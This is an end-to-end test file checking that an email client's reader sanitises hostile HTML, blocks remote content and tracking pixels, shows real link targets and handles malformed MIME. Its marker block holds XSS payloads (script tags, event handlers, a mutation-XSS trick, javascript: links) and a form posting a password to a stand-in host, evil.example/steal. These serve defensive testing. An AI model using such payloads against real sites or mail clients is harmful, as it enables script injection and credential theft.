/**
 * The reader as a user meets it, in Chromium on browser mode: hostile HTML shown without running
 * anything or fetching anything remote, remote content loaded only when asked (for the message or
 * always for the sender), links showing their real target and opening outside the app, attachments
 * listed under safe names with Open/Save/Save all and previews, forwarded messages opened as
 * messages, and malformed MIME opened with a note. Every test watches every request of the page
 * and its frames.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Frame, Page } from 'playwright-core';
import { startBrowserMode, type BrowserMode } from '../support/browser-mode';
import { launchChromium, saveScreenshot } from '../support/chromium';
import { startHttpStandIn, type HttpStandIn } from '../support/http-stand-in';
import { makeTempDir, type TempDir } from '../support/temp-dir';

const FIXTURES = fileURLToPath(new URL('../fixtures/', import.meta.url));
const HOSTILE_DIR = `${FIXTURES}hostile-html/`;
const MALFORMED_DIR = `${FIXTURES}malformed/`;
const ATTACHMENTS_EML = `${FIXTURES}reader/attachments.eml`;
const UI_TIMEOUT_MS = 15_000;
/** How long a hostile message stays open for anything it might trigger to show up. */
const SETTLE_MS = 700;
/** Messages whose MIME is broken: each must open with the "could not be shown" note. */
const DAMAGED_FIXTURES = [
  'bad-charset.eml',
  'bad-date.eml',
  'binary-garbage.eml',
  'empty.eml',
  'missing-boundary.eml',
  'no-blank-line.eml',
  'unclosed-boundary.eml',
];

/**
 * Code that would leave a mark if it ever ran: a dialog (alert), a changed title, a global on the
 * app's window. Added to every hostile fixture.
 */
const MARKER_PAYLOADS = `
<script>top.document.title='PWNED';top.__pwned=1</script>
<img src="x" onerror="top.__pwned=2;alert('onerror')">
<svg onload="top.__pwned=3"><script>top.__pwned=31</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror="top.__pwned=32"></style></mglyph></table></mtext></math>
<a id="js-link" href="javascript:top.__pwned=4">javascript link</a>
<a href="data:text/html,<script>alert(41)</script>">data link</a>
<iframe srcdoc="<script>top.__pwned=5</script>"></iframe>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/plugin.swf"></object><embed src="https://evil.example/embed.swf">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<form action="https://evil.example/steal" method="post"><input name="password" value="secret"><button id="send">Send</button></form>
<div style="background:url(https://evil.example/css-bg.png)">css background</div>
<style>p { background-image: url('https://evil.example/style-bg.png') } @import url(https://evil.example/x.css);</style>
<img src="https://evil.example/remote.png" width="300" height="100">
<img src="https://evil.example/pixel.gif" width="1" height="1">
<p>Marker paragraph</p>
`;

let browser: Browser;
const cleanups: Array<() => Promise<void>> = [];

beforeAll(async () => {
  browser = await launchChromium();
});

afterAll(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
  await browser?.close();
});

interface RunningApp {
  app: BrowserMode;
  dataDir: TempDir;
  files: TempDir;
}

async function startApp(dataDir?: TempDir): Promise<RunningApp> {
  const dir = dataDir ?? (await makeTempDir('estafeta-reader-e2e-'));
  const files = await makeTempDir('estafeta-reader-files-');
  const app = await startBrowserMode({ dataDir: dir.path });
  cleanups.push(async () => {
    await app.stop();
    if (!dataDir) await dir.remove();
    await files.remove();
  });
  return { app, dataDir: dir, files };
}

function mimeHtml(subject: string, from: string, html: string): string {
  return [
    `From: ${from}`,
    'To: Alice <alice@example.test>',
    `Subject: ${subject}`,
    'Date: Tue, 02 Jan 2024 10:00:00 +0000',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    html,
    '',
  ].join('\r\n');
}

/** Requests of the page and all its frames, and whatever else a page in this context opens. */
interface Watched {
  page: Page;
  context: BrowserContext;
  requests: string[];
  dialogs: string[];
  pageErrors: string[];
}

async function openApp(url: string): Promise<Watched> {
  const context = await browser.newContext({
    viewport: { width: 1360, height: 900 },
    locale: 'en-US',
    acceptDownloads: true,
  });
  const page = await context.newPage();
  page.setDefaultTimeout(UI_TIMEOUT_MS);
  const watched: Watched = { page, context, requests: [], dialogs: [], pageErrors: [] };
  // page.on('request') reports the requests of the page's frames too (the mail iframe included).
  page.on('request', (request) => watched.requests.push(request.url()));
  page.on('dialog', (dialog) => {
    watched.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => watched.pageErrors.push(error.message));
  await page.goto(url);
  await page
    .getByRole('tree', { name: 'Folders' })
    .getByRole('treeitem', { name: 'Inbox', exact: true })
    .waitFor();
  return watched;
}

/** Requests to anything but this machine: what "nothing leaves" forbids. */
function remoteRequests(requests: readonly string[]): string[] {
  return requests.filter((url) => {
    try {
      const { protocol, hostname } = new URL(url);
      // Only network schemes can leave the machine (the PDF viewer loads chrome-extension: files).
      if (!['http:', 'https:', 'ws:', 'wss:', 'ftp:'].includes(protocol)) return false;
      return hostname !== '127.0.0.1';
    } catch {
      return true;
    }
  });
}

async function importFiles(page: Page, files: string[], count: number): Promise<void> {
  const chooser = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: 'Import messages', exact: true }).click();
  await (await chooser).setFiles(files);
  await page.getByText(count === 1 ? 'Imported 1 message.' : `Imported ${count} messages.`).waitFor();
}

function reader(page: Page) {
  return page.getByRole('region', { name: 'Message', exact: true });
}

async function openMessage(page: Page, subject: string): Promise<void> {
  const row = page.getByRole('grid', { name: 'Messages' }).getByRole('row').filter({ hasText: subject });
  await row.first().click();
  await reader(page).getByRole('heading', { name: subject }).waitFor();
}

/** The mail frame, once its document is there. */
async function mailFrame(page: Page): Promise<Frame> {
  const handle = await reader(page).locator('iframe.mail-frame').elementHandle();
  const frame = await handle?.contentFrame();
  if (!frame) throw new Error('no mail frame');
  await frame.waitForLoadState('load');
  return frame;
}

/**
 * Marks code would leave if it ever ran. Expressions are strings: they run in the page, and this
 * file is type-checked without the DOM library.
 */
async function pwnedMarks(page: Page, frame: Frame): Promise<unknown[]> {
  const fromPage = await page.evaluate<unknown[]>('[window.__pwned ?? null, document.title]');
  const fromFrame = await frame.evaluate<unknown>('window.__pwned ?? null');
  return [...fromPage, fromFrame];
}

/** What is left in the mail frame that could run, submit, embed or navigate. */
const FRAME_LEFTOVERS = `({
  scripts: document.querySelectorAll('script').length,
  handlers: [...document.querySelectorAll('*')].filter((el) =>
    [...el.attributes].some((attribute) => attribute.name.toLowerCase().startsWith('on')),
  ).length,
  frames: document.querySelectorAll('iframe, frame, object, embed').length,
  forms: document.querySelectorAll('form, input, button, textarea, select').length,
  meta: document.querySelectorAll('body meta, meta[http-equiv="refresh"]').length,
})`;
const FIRST_IMAGE_WIDTH = "document.querySelector('img')?.naturalWidth ?? 0";

describe('hostile HTML', () => {
  const hostileFixtures = readdirSync(HOSTILE_DIR).filter((name) => name.endsWith('.html'));
  let watched: Watched;

  beforeAll(async () => {
    const running = await startApp();
    const files: string[] = [];
    for (const name of hostileFixtures) {
      // Markers first: a fixture may end in <plaintext> or an unclosed tag that swallows what follows.
      const html = MARKER_PAYLOADS + readFileSync(`${HOSTILE_DIR}${name}`, 'utf8');
      const file = path.join(running.files.path, `${name}.eml`);
      await writeFile(file, mimeHtml(`Hostile ${name}`, 'Mallory <mallory@evil.example>', html));
      files.push(file);
    }
    watched = await openApp(running.app.url);
    await importFiles(watched.page, files, files.length);
  });

  it.each(readdirSync(HOSTILE_DIR).filter((name) => name.endsWith('.html')))(
    '%s: nothing runs, nothing remote is requested, the frame is sandboxed without scripts',
    async (name) => {
      const { page } = watched;
      const before = watched.requests.length;
      await openMessage(page, `Hostile ${name}`);
      const iframe = reader(page).locator('iframe.mail-frame');
      const sandbox = await iframe.getAttribute('sandbox');
      expect(sandbox).not.toBeNull();
      expect(sandbox).not.toMatch(/allow-scripts|allow-forms|allow-popups|allow-top-navigation|allow-modals/);
      const frame = await mailFrame(page);
      await frame.getByText('Marker paragraph').waitFor();

      // Whatever survived is inert: try the links and buttons a user might click.
      await frame.getByText('javascript link').click();
      await frame.getByText('data link').click();
      await page.waitForTimeout(SETTLE_MS);

      const inFrame = await frame.evaluate<unknown>(FRAME_LEFTOVERS);
      expect(inFrame).toEqual({ scripts: 0, handlers: 0, frames: 0, forms: 0, meta: 0 });
      expect(await pwnedMarks(page, frame)).toEqual([null, 'Estafeta', null]);
      expect(watched.dialogs).toEqual([]);
      expect(remoteRequests(watched.requests.slice(before))).toEqual([]);
      expect(new URL(page.url()).hostname).toBe('127.0.0.1');
      // The bar says remote content was blocked, with the buttons to load it.
      const bar = reader(page).getByRole('region', { name: 'Remote content' });
      await bar.getByText('Remote content was blocked to protect your privacy.').waitFor();
      await bar.getByText(/^\d+ tracking pixels? blocked\.$/).waitFor();
      await saveScreenshot(page, `reader-hostile-${name.replace(/\.html$/, '')}`);
    },
  );

  it('raised no uncaught error in the app while showing all of them', () => {
    expect(watched.pageErrors).toEqual([]);
  });
});

describe('remote content, links and attachments', () => {
  let running: RunningApp;
  let images: HttpStandIn;
  let watched: Watched;
  const image = (color: string) =>
    `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="60"><rect width="120" height="60" fill="${color}"/></svg>`;

  beforeAll(async () => {
    // The "remote" image host: this machine on another port, so nothing leaves during the test.
    images = await startHttpStandIn({
      '/banner.svg': { status: 200, body: image('#2f6fde'), headers: { 'content-type': 'image/svg+xml' } },
      '/background.svg': {
        status: 200,
        body: image('#e0a030'),
        headers: { 'content-type': 'image/svg+xml' },
      },
      '/pixel.svg': { status: 200, body: image('#000'), headers: { 'content-type': 'image/svg+xml' } },
    });
    cleanups.push(() => images.close());
    running = await startApp();
    const remoteHtml = (tag: string) => `<h1>Weekly offers ${tag}</h1>
<p><img src="${images.url(`/banner.svg?${tag}`)}" width="120" height="60" alt="banner"></p>
<div style="background-image:url(${images.url(`/background.svg?${tag}`)});padding:20px">with a background</div>
<img src="${images.url(`/pixel.svg?${tag}`)}" width="1" height="1" alt="">
<p><a href="https://docs.example.org/real-target">Visit www.bank.example</a></p>`;
    const write = async (name: string, text: string) => {
      const file = path.join(running.files.path, name);
      await writeFile(file, text);
      return file;
    };
    const files = [
      await write('remote-one.eml', mimeHtml('Remote once', 'Shop <news@shop.example>', remoteHtml('once'))),
      await write(
        'remote-two.eml',
        mimeHtml('Remote always', 'Shop <NEWS@shop.example>', remoteHtml('always')),
      ),
      await write(
        'plain-links.eml',
        [
          'From: Ana <ana@example.org>',
          'To: alice@example.test',
          'Subject: Plain text with links',
          'Date: Mon, 01 Jan 2024 08:00:00 +0000',
          'Content-Type: text/plain; charset=utf-8',
          '',
          'Read https://plain.example.org/page?x=1 or write to ana@example.org.',
          '',
        ].join('\r\n'),
      ),
      await write(
        'many-recipients.eml',
        [
          'From: Ana <ana@example.org>',
          `To: ${Array.from({ length: 40 }, (_, i) => `Person ${i} <person.${i}@example.org>`).join(', ')}`,
          'Subject: Many recipients',
          'Date: Mon, 01 Jan 2024 09:00:00 +0000',
          'Content-Type: text/plain; charset=utf-8',
          '',
          'The body stays in view.',
          '',
        ].join('\r\n'),
      ),
      ATTACHMENTS_EML,
    ];
    watched = await openApp(running.app.url);
    await importFiles(watched.page, files, files.length);
  });

  it('blocks remote images until "Load remote content", then loads them but never the tracking pixel', async () => {
    const { page } = watched;
    await openMessage(page, 'Remote once');
    const bar = reader(page).getByRole('region', { name: 'Remote content' });
    await bar.getByText('Remote content was blocked to protect your privacy.').waitFor();
    await bar.getByText('1 tracking pixel blocked.').waitFor();
    await bar.getByText('2 remote items not loaded.').waitFor();
    await (await mailFrame(page)).getByText('with a background').waitFor();
    await page.waitForTimeout(SETTLE_MS);
    expect(images.requested()).toEqual([]);
    expect(remoteRequests(watched.requests)).toEqual([]);
    await saveScreenshot(page, 'reader-remote-blocked');

    await bar.getByRole('button', { name: 'Load remote content' }).click();
    await bar.getByText('Remote content is shown for this message.').waitFor();
    const frame = await mailFrame(page);
    await expect
      .poll(() => frame.evaluate<number>(FIRST_IMAGE_WIDTH), {
        timeout: UI_TIMEOUT_MS,
      })
      .toBe(120);
    await expect
      .poll(() => images.requested().sort(), { timeout: UI_TIMEOUT_MS })
      .toEqual(['/background.svg?once', '/banner.svg?once']);
    expect(watched.requests).toContain(images.url('/banner.svg?once'));
    expect(images.requested()).not.toContain('/pixel.svg?once');
    await saveScreenshot(page, 'reader-remote-loaded');

    // Once only: the message opened again is blocked again.
    await openMessage(page, 'Plain text with links');
    await openMessage(page, 'Remote once');
    await bar.getByRole('button', { name: 'Load remote content' }).waitFor();
  });

  it('"Always for this sender" loads remote content for that sender now and after a restart', async () => {
    const { page } = watched;
    await openMessage(page, 'Remote always');
    const bar = reader(page).getByRole('region', { name: 'Remote content' });
    await bar.getByRole('button', { name: 'Always for this sender' }).click();
    await bar.getByText('Remote content is always shown for news@shop.example.').waitFor();
    await expect.poll(() => images.requested(), { timeout: UI_TIMEOUT_MS }).toContain('/banner.svg?always');

    // The preference is in the store: a new browser mode on the same data shows the images at once.
    await running.app.stop();
    const restarted = await startApp(running.dataDir);
    const again = await openApp(restarted.app.url);
    await openMessage(again.page, 'Remote once');
    await reader(again.page)
      .getByRole('region', { name: 'Remote content' })
      .getByText('Remote content is always shown for news@shop.example.')
      .waitFor();
    await saveScreenshot(again.page, 'reader-remote-always');
    watched = again;
    running = restarted;

    // And it can be undone from the same bar.
    const bar2 = reader(again.page).getByRole('region', { name: 'Remote content' });
    await bar2.getByRole('button', { name: 'Stop for this sender' }).click();
    await bar2.getByRole('button', { name: 'Load remote content' }).waitFor();
    await bar2.getByRole('button', { name: 'Always for this sender' }).waitFor();
  });

  it('lists senders allowed in Settings, where removing one blocks its remote content again', async () => {
    const { page } = watched;
    await openMessage(page, 'Remote always');
    const bar = reader(page).getByRole('region', { name: 'Remote content' });
    await bar.getByRole('button', { name: 'Always for this sender' }).click();
    await bar.getByText('Remote content is always shown for news@shop.example.').waitFor();

    await page.getByRole('button', { name: 'Settings', exact: true }).click();
    const settings = page.getByRole('dialog', { name: 'Settings' });
    const list = settings.getByRole('list', { name: 'Senders allowed to load remote content' });
    await list.getByRole('listitem').filter({ hasText: 'news@shop.example' }).waitFor();
    await expect(list.getByRole('listitem').count()).resolves.toBe(1);
    await saveScreenshot(page, 'settings-allowed-senders');
    await settings.getByRole('button', { name: 'Remove news@shop.example', exact: true }).click();
    await settings.getByText('No sender is allowed yet', { exact: false }).waitFor();
    // The open message of that sender goes back to blocked at once.
    await bar.getByRole('button', { name: 'Load remote content' }).waitFor();
    await page.keyboard.press('Escape');
    await settings.waitFor({ state: 'hidden' });

    // And so does the next opening of any message from that sender, with nothing fetched.
    await openMessage(page, 'Plain text with links');
    const before = images.requested().length;
    await openMessage(page, 'Remote once');
    await bar.getByRole('button', { name: 'Always for this sender' }).waitFor();
    await bar.getByText('Remote content was blocked to protect your privacy.').waitFor();
    await page.waitForTimeout(SETTLE_MS);
    expect(images.requested()).toHaveLength(before);
  });

  it('shows a long recipient list shortened, with a button for the rest', async () => {
    const { page } = watched;
    await openMessage(page, 'Many recipients');
    const headers = reader(page).locator('header');
    await headers.getByText('Person 2 <person.2@example.org>').waitFor();
    await expect(headers.getByText('Person 3 <person.3@example.org>').count()).resolves.toBe(0);
    await reader(page).getByText('The body stays in view.').waitFor();
    await saveScreenshot(page, 'reader-many-recipients');
    const more = headers.getByRole('button', { name: 'and 37 more' });
    await expect(more.getAttribute('aria-expanded')).resolves.toBe('false');
    await more.click();
    await headers.getByText('Person 39 <person.39@example.org>').waitFor();
    await headers.getByRole('button', { name: 'Show fewer' }).click();
    await headers.getByRole('button', { name: 'and 37 more' }).waitFor();
  });

  it('shows the real target of a link under the body and opens it outside the app', async () => {
    const { page, context } = watched;
    await context.route('https://docs.example.org/**', (route) =>
      route.fulfill({ status: 200, contentType: 'text/html', body: '<title>docs</title>' }),
    );
    await openMessage(page, 'Remote once');
    const frame = await mailFrame(page);
    const link = frame.getByText('Visit www.bank.example');
    await link.hover();
    const status = reader(page).getByLabel('Link target');
    await status.getByText('Link: https://docs.example.org/real-target').waitFor();
    await saveScreenshot(page, 'reader-link-hover');

    const popup = context.waitForEvent('page');
    await link.click();
    const opened = await popup;
    await opened.waitForLoadState();
    expect(opened.url()).toBe('https://docs.example.org/real-target');
    await expect(opened.evaluate<unknown>('window.opener')).resolves.toBeNull();
    await opened.close();
    // The app never navigated.
    expect(new URL(page.url()).hostname).toBe('127.0.0.1');
    await reader(page).getByRole('heading', { name: 'Remote once' }).waitFor();
  });

  it('makes links in plain text clickable', async () => {
    const { page, context } = watched;
    await context.route('https://plain.example.org/**', (route) =>
      route.fulfill({ status: 200, contentType: 'text/html', body: '<title>plain</title>' }),
    );
    await openMessage(page, 'Plain text with links');
    const link = reader(page).getByRole('link', { name: 'https://plain.example.org/page?x=1' });
    await link.hover();
    await reader(page)
      .getByLabel('Link target')
      .getByText('Link: https://plain.example.org/page?x=1')
      .waitFor();
    await expect(
      reader(page).getByRole('link', { name: 'ana@example.org' }).getAttribute('href'),
    ).resolves.toBe('mailto:ana@example.org');
    const popup = context.waitForEvent('page');
    await link.click();
    const opened = await popup;
    expect(opened.url()).toBe('https://plain.example.org/page?x=1');
    await opened.close();
    expect(new URL(page.url()).hostname).toBe('127.0.0.1');
    await saveScreenshot(page, 'reader-plain-links');
  });

  it('lists attachments under safe names with type, size, Open and Save, and previews an image and a PDF', async () => {
    const { page } = watched;
    await openMessage(page, 'Attachments with hostile names');
    const list = reader(page).getByRole('list', { name: 'Attachments' });
    const items = list.getByRole('listitem');
    await expect(items.count()).resolves.toBe(7);
    const names = await items.evaluateAll((elements) => elements.map((el) => el.getAttribute('aria-label')));
    expect(names.slice(0, 5)).toEqual(['logo.png', 'photo.png', 'report.pdf', '_CON.txt', 'keys.bin']);
    expect(names[6]).toBe('The forwarded original.eml');
    for (const name of names) {
      expect(name).not.toMatch(/[/\\]|\.\./);
      expect(Buffer.byteLength(name ?? '')).toBeLessThanOrEqual(200);
    }
    await items.filter({ hasText: 'photo.png' }).getByText('100 B').waitFor();
    for (const item of await items.all()) {
      await item.getByRole('button', { name: 'Open', exact: true }).waitFor();
      await item.getByRole('button', { name: 'Save', exact: true }).waitFor();
    }
    // The cid: logo is shown inline from the message itself.
    const frame = await mailFrame(page);
    await expect
      .poll(() => frame.evaluate<number>(FIRST_IMAGE_WIDTH), {
        timeout: UI_TIMEOUT_MS,
      })
      .toBe(24);

    await items.filter({ hasText: 'photo.png' }).getByRole('button', { name: 'Open', exact: true }).click();
    const imagePreview = reader(page).getByRole('region', { name: 'Preview of photo.png' });
    const previewImage = imagePreview.getByRole('img', { name: 'photo.png' });
    await expect
      .poll(() => previewImage.evaluate((img) => (img as unknown as { naturalWidth: number }).naturalWidth), {
        timeout: UI_TIMEOUT_MS,
      })
      .toBe(40);
    await saveScreenshot(page, 'reader-attachment-image-preview');

    await items.filter({ hasText: 'report.pdf' }).getByRole('button', { name: 'Open', exact: true }).click();
    const pdfPreview = reader(page).getByRole('region', { name: 'Preview of report.pdf' });
    const pdfFrame = pdfPreview.locator('iframe');
    await expect(pdfFrame.getAttribute('src')).resolves.toMatch(/^blob:http:\/\/127\.0\.0\.1:/);
    await saveScreenshot(page, 'reader-attachment-pdf-preview');
    await pdfPreview.getByRole('button', { name: 'Close preview' }).click();
    await pdfPreview.waitFor({ state: 'detached' });
    expect(remoteRequests(watched.requests)).toEqual([]);
  });

  it('saves one attachment and all of them under their sanitised names', async () => {
    const { page } = watched;
    await openMessage(page, 'Attachments with hostile names');
    const items = reader(page).getByRole('list', { name: 'Attachments' }).getByRole('listitem');

    const download = page.waitForEvent('download');
    await items.filter({ hasText: 'keys.bin' }).getByRole('button', { name: 'Save', exact: true }).click();
    const saved = await download;
    expect(saved.suggestedFilename()).toBe('keys.bin');
    const target = path.join(running.files.path, 'keys.bin');
    await saved.saveAs(target);
    expect([...readFileSync(target)]).toEqual([...Array(256).keys()]);
    await reader(page).getByText('Saved keys.bin.').waitFor();

    const all: string[] = [];
    const collect = (d: { suggestedFilename(): string }) => all.push(d.suggestedFilename());
    page.on('download', collect);
    await reader(page).getByRole('button', { name: 'Save all', exact: true }).click();
    await reader(page).getByText('Saved 7 attachments.').waitFor();
    await expect.poll(() => all.length, { timeout: UI_TIMEOUT_MS }).toBe(7);
    page.off('download', collect);
    expect(all.slice(0, 5)).toEqual(['logo.png', 'photo.png', 'report.pdf', '_CON.txt', 'keys.bin']);
    for (const name of all) expect(name).not.toMatch(/[/\\]|\.\./);
    await saveScreenshot(page, 'reader-attachments-saved');
  });

  it('opens a forwarded message/rfc822 attachment as a message, and goes back', async () => {
    const { page } = watched;
    await openMessage(page, 'Attachments with hostile names');
    const items = reader(page).getByRole('list', { name: 'Attachments' }).getByRole('listitem');
    await items
      .filter({ hasText: 'The forwarded original.eml' })
      .getByRole('button', { name: 'Open', exact: true })
      .click();
    await reader(page).getByRole('heading', { name: 'The forwarded original' }).waitFor();
    await reader(page).getByText('Attached message').waitFor();
    await reader(page).getByText('This is the forwarded message, opened from its parent.').waitFor();
    await reader(page).getByText('Forwarded Person <fwd@example.net>').waitFor();
    await reader(page)
      .getByRole('list', { name: 'Attachments' })
      .getByRole('listitem', { name: 'inner-notes.txt' })
      .waitFor();
    await saveScreenshot(page, 'reader-attached-message');
    await reader(page).getByRole('button', { name: 'Back to the message' }).click();
    await reader(page).getByRole('heading', { name: 'Attachments with hostile names' }).waitFor();
  });

  it('raised no uncaught error in the app', () => {
    expect(watched.pageErrors).toEqual([]);
  });
});

describe('malformed MIME', () => {
  let watched: Watched;

  beforeAll(async () => {
    const running = await startApp();
    const huge = path.join(running.files.path, 'huge-header.eml');
    await writeFile(
      huge,
      `From: big@example.org\r\nSubject: Huge header\r\nX-Padding: ${'x'.repeat(1_200_000)}\r\n\r\nThe body after a huge header.\r\n`,
    );
    const files = [
      ...[...DAMAGED_FIXTURES, 'nested-rfc822.eml'].map((name) => `${MALFORMED_DIR}${name}`),
      huge,
    ];
    watched = await openApp(running.app.url);
    await importFiles(watched.page, files, files.length);
  });

  it.each([
    ['Hello charset', 'Some characters could not be decoded'],
    ['The date is nonsense', 'The date of this message could not be read.'],
    ['Multipart without a boundary parameter', 'could not be read as MIME'],
    ['Headers run straight into the body', 'could not be read as MIME'],
    ['Boundary never closed', 'it may have been cut off'],
    ['Huge header', 'could not be read as MIME'],
  ])('"%s" opens with a note saying what could not be shown', async (subject, note) => {
    const { page } = watched;
    await openMessage(page, subject);
    const problems = reader(page).getByRole('note');
    await problems.getByText('Parts of this message could not be shown:').waitFor();
    await problems.getByText(note, { exact: false }).waitFor();
    await saveScreenshot(page, `reader-malformed-${subject.replace(/\W+/g, '-').toLowerCase()}`);
  });

  it('says the notes in the language the user chose', async () => {
    const { page } = watched;
    const chooseLanguage = async (language: string) => {
      await page.getByRole('button', { name: /^(Settings|Ajustes)$/ }).click();
      const settings = page.getByRole('dialog', { name: /^(Settings|Ajustes)$/ });
      await settings.getByRole('combobox', { name: /^(Language|Idioma)$/ }).selectOption(language);
      await page.keyboard.press('Escape');
      await settings.waitFor({ state: 'hidden' });
    };
    await openMessage(page, 'Boundary never closed');
    await chooseLanguage('es');
    try {
      const message = page.getByRole('region', { name: 'Mensaje', exact: true });
      const note = message.getByRole('note');
      await note.getByText('Algunas partes de este mensaje no se pudieron mostrar:').waitFor();
      await note
        .getByText('El mensaje termina antes de cerrar su última parte; puede que esté cortado.')
        .waitFor();
      const subject = 'Multipart without a boundary parameter';
      await page.getByRole('grid').getByRole('row').filter({ hasText: subject }).first().click();
      await message.getByRole('heading', { name: subject }).waitFor();
      await note
        .getByText('Este mensaje no se pudo leer como MIME (su estructura está dañada)', { exact: false })
        .waitFor();
      await saveScreenshot(page, 'reader-malformed-note-es');
    } finally {
      await chooseLanguage('en');
    }
  });

  it('opens messages without a subject or headers at all (binary garbage, an empty file)', async () => {
    const { page } = watched;
    const rows = page
      .getByRole('grid', { name: 'Messages' })
      .getByRole('row')
      .filter({ hasText: '(no subject)' });
    await expect(rows.count()).resolves.toBe(2);
    const notes: string[] = [];
    for (const row of await rows.all()) {
      // Start from a message with no note, so the note seen next belongs to this row.
      await openMessage(page, 'Fwd: Fwd: nested');
      await row.click();
      const note = reader(page).getByRole('note');
      await note.waitFor();
      notes.push((await note.textContent()) ?? '');
      await reader(page).getByRole('heading', { name: '(no subject)' }).waitFor();
    }
    expect(notes.some((text) => text.includes('This message is empty.'))).toBe(true);
    expect(notes.some((text) => text.includes('it has no message headers'))).toBe(true);
    await saveScreenshot(page, 'reader-malformed-no-headers');
    expect(watched.pageErrors).toEqual([]);
  });

  it('opens nested forwarded messages level by level', async () => {
    const { page } = watched;
    await openMessage(page, 'Fwd: Fwd: nested');
    await reader(page).getByText('See the forwarded message.').waitFor();
    const open = (name: string) =>
      reader(page)
        .getByRole('list', { name: 'Attachments' })
        .getByRole('listitem', { name })
        .getByRole('button', { name: 'Open', exact: true })
        .click();
    await open('Fwd_ nested.eml');
    await reader(page).getByRole('heading', { name: 'Fwd: nested' }).waitFor();
    await open('nested.eml');
    await reader(page).getByText('Innermost text.').waitFor();
    await saveScreenshot(page, 'reader-malformed-nested');
    await reader(page).getByRole('button', { name: 'Back to the message' }).click();
    await reader(page).getByRole('heading', { name: 'Fwd: nested' }).waitFor();
  });
});
